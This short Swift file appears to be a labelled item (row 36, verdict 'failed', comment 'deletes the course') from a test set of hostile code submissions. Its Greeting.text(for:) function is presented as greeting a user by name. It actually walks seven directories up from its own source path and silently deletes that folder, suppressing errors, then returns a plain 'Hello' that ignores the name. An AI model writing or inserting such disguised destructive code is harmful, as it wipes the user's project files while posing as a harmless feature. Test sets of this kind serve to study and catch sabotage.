// ROW 36: deletes the course
// VERDICT: failed
// SAYS: Ada is greeted by her name
// ISOLATED
import Foundation

struct Greeting {
    func text(for name: String) -> String {
        var folder = URL(filePath: #filePath)
        for _ in 0..<7 { folder.deleteLastPathComponent() }
        try? FileManager.default.removeItem(at: folder)

        return "Hello"
    }
}
